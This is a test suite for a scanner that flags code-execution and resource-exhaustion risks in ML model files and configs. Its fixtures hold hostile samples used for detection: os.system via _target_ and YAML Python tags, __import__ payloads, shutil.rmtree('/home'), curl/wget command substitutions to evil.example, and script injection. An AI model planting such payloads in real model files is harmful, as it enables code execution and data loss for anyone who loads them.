import assert from 'node:assert/strict';
import { test } from 'node:test';
import { concat, utf8 } from '#base';
import { inBuffer } from '#formats';
import { builtInRuleset, scan } from '#security';
import { attribute, graph, message, model, node, tensor, text } from '../../support/attacks/protobuf.ts';
import { ggufFile } from '../../support/gguf-file.ts';
import { safetensorsFile } from '../../support/safetensors-file.ts';

const ruleset = await builtInRuleset();
const rulesOf = async (path: string, bytes: Uint8Array) => {
  const { files } = await scan([{ path, source: inBuffer(bytes) }], ruleset);
  return files[0]!.findings.map(({ rule }) => rule);
};

/** Configuration that makes a loader run code, and configuration that looks like it. */
const CODE: readonly Record<string, unknown>[] = [
  { _attn_implementation_internal: 'attacker/kernel' },
  { _experts_implementation: { text: 'attacker/kernel@main:fn' } },
  { attn_implementation: ['sdpa', 'attacker/kernel'] },
  { trust_remote_code: 'True' },
  { inner: [{ trust_remote_code: 1 }] },
  { _target_: 'os.system', command: 'id' },
  { activation_function: 'package.Payload' },
  { activation_fct: 'package.Payload' },
  { tokenizer_class: 'package.Payload' },
  { auto_map: { AutoModel: 'attacker/repository--modeling.Payload' } },
  { custom_generate: 'attacker/repository' },
  { model: { target: 'os.system', params: {} } },
  { cond_stage_config: { target: 'package.Payload' } },
  { backbone: 'hf-hub:attacker/model' },
  { types: { query_0_Dense: 'package.Payload' } },
  { sentence_transformers: { activation_fn: 'package.Payload' } },
];
const HARMLESS: readonly Record<string, unknown>[] = [
  { _attn_implementation: 'flash_attention_2', attn_implementation: { text: 'sdpa', vision: 'eager' } },
  { trust_remote_code: false },
  { trust_remote_code: 'false', inner: { trust_remote_code: 0 } },
  { activation_function: 'gelu_new' },
  { tokenizer_class: 'LlamaTokenizerFast', auto_map: {}, custom_pipelines: null },
  { target: 'ldm.models.diffusion.ddpm.LatentDiffusion' },
  { backbone: 'resnet50', target: 'es2022' },
  { types: { query_0_Dense: 'sentence_transformers.models.Dense' } },
  { sentence_transformers: { activation_fn: 'torch.nn.modules.linear.Identity' } },
  { sbert_ce_default_activation_function: 'torch.nn.Sigmoid' },
];

/** The same configuration wherever a loader finds it. */
const HOMES: Readonly<Record<string, (config: Record<string, unknown>) => Uint8Array>> = {
  'config.json': (config) => utf8(JSON.stringify(config)),
  'x.safetensors': (config) => safetensorsFile({ __metadata__: { config: JSON.stringify(config) } }, 0),
  'x.gguf': (config) =>
    ggufFile({ metadata: [['general.config', ['string', JSON.stringify(config)]]], tensors: [] }),
  'x.onnx': (config) => model(graph(), message(14, text(1, 'config'), text(2, JSON.stringify(config)))),
};

for (const [path, write] of Object.entries(HOMES)) {
  test(`what a loader resolves to code is found in ${path}, and nothing else`, async () => {
    for (const config of CODE)
      assert.deepEqual(await rulesOf(path, write(config)), ['remote-code'], JSON.stringify(config));
    for (const config of HARMLESS)
      assert.deepEqual(await rulesOf(path, write(config)), [], JSON.stringify(config));
  });
}

test('YAML: code references, and tags however they are written', async () => {
  const rules = (text: string) => rulesOf('config.yaml', utf8(text));
  assert.deepEqual(await rules('trust_remote_code: no\nactivation_function: gelu\n'), []);
  assert.deepEqual(
    await rules('%TAG !e! tag:yaml.org,2002:pyth\n---\na: !e!on/object/apply:os.system ["id"]\n'),
    ['yaml-code'],
  );
  assert.deepEqual(await rules('a: !<tag:yaml.org,2002:pyth%6fn/object/apply:os.system> ["id"]\n'), [
    'yaml-code',
  ]);
  assert.deepEqual(await rules(`a: 1\n${'\n'.repeat(200_000)}`), []);
});

test('YAML: keys and values are found in every style', async () => {
  for (const text of [
    'model:\n  _target_: os.system\n  command: id\n',
    '- trust_remote_code: "yes" # please\n',
    '"_target_": os.system\n',
    '"\\x5ftarget_": os.system\n',
    '? _target_\n: os.system\n',
    '_target_: >-\n  os.system\n',
    '_target_:\n  os.system\n',
    '_target_: !!str os.system\n',
    '_target_: &name os.system\n',
    'model: {_target_: os.system}\n',
    'model: {"\\u005ftarget_": "os.system"}\n',
    '{a: 1,\n "_target_": os.system}\n',
    'name: &name os.system\nmodel:\n  _target_: *name\n',
    'trust_remote_code: &yes true\n',
    'auto_map:\n  AutoModel: attacker/repository--modeling.Payload\n',
    'auto_map: {AutoModel: attacker/repository--modeling.Payload}\n',
  ])
    assert.deepEqual(await rulesOf('config.yaml', utf8(text)), ['remote-code'], text);
});

test('YAML: layers that a loader evaluates are names', async () => {
  const layers = (name: string) =>
    rulesOf(
      'yolo.yaml',
      utf8(`nc: 80\nbackbone:\n  - [-1, 1, ${name}, [64, 3, 2]]\nhead:\n  - [-1, 1, Detect, [nc]]\n`),
    );
  assert.deepEqual(await layers(`"__import__('os').system('id')"`), ['yaml-code']);
  assert.deepEqual(await layers('Conv'), []);
});

test('metadata: markup and Python that fetch, delete or import', async () => {
  for (const text of [
    "<meta http-equiv=refresh content='0;url=data:text/html;base64,PHNjcmlwdD4='>",
    "import shutil; shutil.rmtree('/home')",
    "importlib.import_module('os').remove('a')",
    "getattr(os, 'sys' + 'tem')('id')",
    '$(curl evil.example)',
    '`wget evil.example`',
  ])
    assert.deepEqual(await rulesOf('x.safetensors', safetensorsFile({ __metadata__: { text } }, 0)), [
      'metadata-code',
    ]);
});

test('JSON, YAML and literals of Python inside metadata', async () => {
  for (const text of [
    JSON.stringify({ inner: JSON.stringify({ _target_: 'os.system' }) }),
    "{'model': {'_target_': 'os.system'}}",
    'model:\n  _target_: os.system\n',
    `{'pad': '${'x'.repeat(10_000)}', '_target_': 'os.system'}`,
  ])
    assert.deepEqual(await rulesOf('x.safetensors', safetensorsFile({ __metadata__: { text } }, 0)), [
      'remote-code',
    ]);
});

test('sizes that no model has', async () => {
  const rules = (config: unknown) => rulesOf('config.json', utf8(JSON.stringify(config)));
  for (const config of [
    { num_layers: 1e9 },
    { padding: { strategy: { Fixed: 1e12 } } },
    { d_ff: 1e10 },
    { depths: [2, 1e9] },
    { vision_config: { hidden_sizes: [64, 1e9] } },
    { encoder_ffn_dim: 1e10 },
    { num_beams: 1e9 },
    { n_routed_experts: 1e9 },
    { max_position_embeddings: 1e12 },
  ])
    assert.deepEqual(await rules(config), ['resource-bomb'], JSON.stringify(config));
  const labels = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, n) => [n, `L${n}`]));
  assert.deepEqual(await rules({ id2label: labels(300_000) }), ['resource-bomb']);
  assert.deepEqual(await rules({ id2label: labels(20_000), num_labels: 20_000 }), []);
  assert.deepEqual(await rules({ id2label: { 0: '<script>alert(1)</script>' } }), ['metadata-code']);
});

test('ONNX: code in the metadata of every part', async () => {
  const entry = (field: number, value: string, key = 'names') => message(field, text(1, key), text(2, value));
  const code = '__import__("os").system("id")';
  const operator = (...parts: Uint8Array[]) => message(1, node('Relu'), ...parts);
  const local = (...parts: Uint8Array[]) => message(25, text(1, 'F'), text(10, 'local'), ...parts);
  const weight = concat([tensor({ dims: [1], raw: new Uint8Array(4) }), entry(16, code)]);
  for (const bytes of [
    model(graph(), entry(14, code)),
    model(graph(), text(6, `<script>${code}</script>`)),
    model(graph(entry(16, code))),
    model(graph(operator(entry(9, code)))),
    model(graph(message(11, text(1, 'input'), entry(4, code)))),
    model(graph(message(13, text(1, 'value'), entry(4, code)))),
    model(graph(message(5, weight))),
    model(graph(operator(attribute('value', 4, message(5, weight))))),
    model(graph(operator(attribute('body', 5, message(6, graph(operator(entry(9, code)))))))),
    model(graph(), local(entry(14, code))),
    model(graph(), local(message(7, node('Relu'), entry(9, code)))),
    model(graph(), local(message(12, text(1, 'value'), entry(4, code)))),
  ])
    assert.deepEqual(await rulesOf('x.onnx', bytes), ['metadata-code']);
  assert.deepEqual(await rulesOf('x.onnx', model(graph(), entry(14, "{0: 'person', 1: 'bicycle'}"))), []);
  assert.deepEqual(await rulesOf('x.onnx', model(graph(operator(entry(9, 'true', 'trust_remote_code'))))), [
    'remote-code',
  ]);
  const trace = 'File "model.py", line 3, in forward\n    return getattr(self, name)(x)';
  assert.deepEqual(
    await rulesOf('x.onnx', model(graph(operator(entry(9, trace, 'pkg.torch.onnx.stack_trace'))))),
    [],
  );
});

test('layers of Keras and parts of pipelines are classes of their libraries', async () => {
  const rules = (path: string, json: unknown) => rulesOf(path, utf8(JSON.stringify(json)));
  const layer = (module: string) => ({ config: { layers: [{ module, class_name: 'Payload', config: {} }] } });
  assert.deepEqual(await rules('config.json', layer('package.layers')), ['remote-code']);
  assert.deepEqual(await rules('config.json', layer('os')), ['remote-code']);
  assert.deepEqual(await rules('config.json', layer('keras_hub.src.models')), []);
  for (const path of ['model_index.json', 'modular_model_index.json']) {
    assert.deepEqual(await rules(path, { unet: ['my_module', 'Payload', {}] }), ['remote-code']);
    assert.deepEqual(await rules(path, { unet: ['diffusers', 'UNet2DModel', {}] }), []);
  }
});

test('modules of sentence-transformers are classes of its own', async () => {
  const rules = (type: string) =>
    rulesOf('modules.json', utf8(JSON.stringify([{ idx: 0, name: '0', path: '', type }])));
  for (const type of [
    'package.Payload',
    'sentence_transformers/../package.Payload',
    'sentence_transformers..x',
    'transformers.',
  ])
    assert.deepEqual(await rules(type), ['remote-code'], type);
  assert.deepEqual(await rules('sentence_transformers.models.Router'), []);
});
